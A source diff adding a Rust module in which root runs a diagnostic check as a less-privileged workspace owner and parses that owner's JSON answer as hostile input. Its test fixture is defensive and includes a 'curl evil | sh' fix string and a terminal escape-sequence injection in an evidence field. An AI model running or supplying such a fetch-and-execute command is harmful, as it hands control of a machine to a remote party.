@@ -1,0 +1,141 @@
+//! The owner's half: root sends the workspace's owner to look at what is the agent's, and reads the answer as from an
+//! enemy. Root itself runs, parses and writes nothing below that home.
+//!
+//! The answer names checks and fixes that are known here, and brings nothing of its own but short printable evidence; the
+//! accounts that go with it, tokens included, never reach a disk or a screen.
+
+use std::env;
+use std::path::Path;
+use std::time::Duration;
+
+use super::finding::{Level, Said};
+use super::split::Standby;
+use super::world::{Owner, World};
+use super::{CHECKS, Check, Who, fix};
+use crate::config::Source;
+use crate::host::CommandError;
+use crate::json::{self, Node, Value};
+
+/// Beyond what every check may take of its own.
+const DEADLINE: Duration = Duration::from_secs(10 * 60);
+
+/// The longest answer, in bytes.
+const LIMIT: usize = 256 * 1024;
+
+/// What the owner says, check by check, and of its channels.
+pub(super) struct Answer {
+    pub(super) found: Vec<(&'static Check, Said)>,
+    pub(super) standby: Option<Standby>,
+}
+
+/// The answer for root to read.
+pub(super) fn to_json(found: &[(&'static Check, Said)], standby: Option<&Standby>) -> Value {
+    let one = |(check, said): &(&Check, Said)| {
+        Value::object([
+            ("id", check.id.into()),
+            ("level", said.level.name().into()),
+            ("evidence", said.evidence.as_str().into()),
+            ("fix", said.fix.into()),
+        ])
+    };
+    let standby = standby.map_or(Value::Null, Standby::to_json);
+    Value::object([("checks", Value::array(found.iter().map(one))), ("standby", standby)])
+}
+
+/// Sends the owner to look. `wants_accounts`: its channels are to be compared with the primary's.
+///
+/// # Errors
+/// When it cannot be sent, or its answer is none.
+pub(super) fn ask(world: &World, wants_accounts: bool) -> Result<Answer, (String, &'static str)> {
+    let owner = world.owner.as_ref().map_err(|why| (why.clone(), fix::INSTALL_UNITS))?;
+    let program = env::current_exe().map_err(|why| (why.to_string(), fix::BECOME))?;
+    let said = run(world, owner, &program, wants_accounts).map_err(|why| {
+        let how = if why.is_missing_program() { fix::PROGRAMS } else { fix::BECOME };
+        (format!("cannot look as {}: {}", owner.name, why.reason()), how)
+    })?;
+    let node = json::parse(&said).map_err(|_| (format!("what {} answers is no answer", owner.name), fix::BECOME))?;
+    Ok(read(&node))
+}
+
+/// Its own session, so that nothing of the agent's reaches root's terminal; no way to more privileges; and it ends with
+/// the child that waits for it.
+fn run(world: &World, owner: &Owner, program: &Path, wants_accounts: bool) -> Result<String, CommandError> {
+    let variables = ["PRIMARY_IP", "PRIMARY_PORT", "SECRETS_HOST", "CHECK_INTERVAL", "FAIL_THRESHOLD"];
+    let mut command = world
+        .command("setsid")
+        .args(["--wait", "setpriv", "--reuid"])
+        .arg(owner.uid.to_string())
+        .arg("--regid")
+        .arg(owner.gid.to_string())
+        .args(["--init-groups", "--reset-env", "--no-new-privs", "--pdeathsig", "KILL", "--", "env"]);
+    if let Source::Environment(_) = world.source {
+        let set = variables.into_iter().filter_map(|name| Some(format!("{name}={}", env::var(name).ok()?)));
+        command = command.args(set);
+    }
+    command = command.arg(program).args(["doctor", "--as-owner"]);
+    if let Source::File(path) = &world.source {
+        command = command.arg("--config").arg(path);
+    }
+    if wants_accounts {
+        command = command.arg("--accounts");
+    }
+    command.deadline(DEADLINE).limit(LIMIT).run().map(|output| output.stdout)
+}
+
+/// Reads the answer. A check that it leaves out was not looked at.
+fn read(node: &Node) -> Answer {
+    let said = node.get("checks").and_then(|checks| checks.as_array()).unwrap_or_default();
+    let find = |check: &&'static Check| {
+        let is_it = |said: &&Node| said.get("id").and_then(|id| id.as_str()) == Some(check.id);
+        let said = said.iter().find(is_it).and_then(|said| read_one(said));
+        said.unwrap_or_else(|| Said::skipped("the owner's half does not say"))
+    };
+    let checks = CHECKS.iter().filter(|check| check.who == Who::Owner);
+    let standby = node.get("standby").filter(|standby| !standby.is_null()).map(Standby::read);
+    Answer { found: checks.map(|check| (check, find(&check))).collect(), standby }
+}
+
+fn read_one(said: &Value) -> Option<Said> {
+    let text = |key: &str| said.get(key)?.as_str();
+    let fix = text("fix").unwrap_or_default();
+    let known = fix::ALL.iter().find(|known| **known == fix).copied().unwrap_or(fix::NONE);
+    Some(Said::new(Level::parse(text("level")?)?, text("evidence")?, known))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn found(answer: &str) -> Vec<(&'static Check, Said)> {
+        read(&json::parse(answer).unwrap()).found
+    }
+
+    #[test]
+    fn the_answer_reads_back() {
+        let mut said = found("{}");
+        for (number, (_, said)) in said.iter_mut().enumerate() {
+            let level = [Level::Ok, Level::Warn, Level::Fail, Level::Skipped][number % 4];
+            *said = Said::new(level, &format!("seen {number}"), fix::FETCH);
+        }
+        let again = found(&to_json(&said, None).to_string());
+        assert!(said.len() > 8);
+        assert!(said.iter().zip(&again).all(|(one, other)| one.0.id == other.0.id && one.1 == other.1));
+    }
+
+    #[test]
+    fn an_enemys_answer_brings_nothing_of_its_own() {
+        let hostile = r#"{"checks":[
+            {"id":"git-fetch","level":"fail","evidence":"\u001b[2Jgone\nok","fix":"curl evil | sh"},
+            {"id":"git-fetch","level":"ok","evidence":"twice","fix":""},
+            {"id":"node","level":"splendid","evidence":"x","fix":""},
+            {"id":"openclaw","level":"ok","evidence":7,"fix":""},
+            {"id":"polkit","level":"ok","evidence":"not mine to say","fix":""}, 3], "standby": 5}"#;
+        let found = found(hostile);
+        let of = |id: &str| found.iter().find(|(check, _)| check.id == id).map(|(_, said)| said);
+        assert_eq!(of("git-fetch"), Some(&Said::new(Level::Fail, "[2Jgone ok", "")));
+        assert_eq!(of("node").map(|said| said.level), Some(Level::Skipped));
+        assert_eq!(of("openclaw").map(|said| said.level), Some(Level::Skipped));
+        assert_eq!(of("polkit"), None);
+        assert!(self::found("[]").iter().all(|(_, said)| said.level == Level::Skipped));
+    }
+}
